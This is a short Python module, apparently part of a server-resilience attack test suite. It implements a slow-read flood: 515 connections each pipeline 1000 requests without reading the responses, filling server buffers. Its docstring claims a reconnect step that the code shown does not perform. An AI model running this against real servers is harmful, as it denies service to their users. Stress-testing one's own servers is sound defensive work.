"""Clients that ask and never read: their answers fill the kernel's buffers, and then those of the server."""

from __future__ import annotations

import time

from attacks.place import Place, Seen, ended, get, send_some

CONNECTIONS, REQUESTS = 515, 1000


def run(place: Place) -> Seen:
    """Send all requests as far as they are taken; whoever was ended begins anew, once."""
    requests = get("/page.js") * REQUESTS
    with place.connections(place.of(CONNECTIONS)) as links:
        left = dict.fromkeys(links, requests)
        dead = 0
        while place.left:
            for link, data in list(left.items()):
                if (sent := send_some(link, data)) < 0:
                    del left[link]
                    dead += 1
                else:
                    left[link] = data[sent:]
            time.sleep(0.1)
        return {"connections": len(links), "ended by the server": sum(map(ended, links)), "refused": dead}
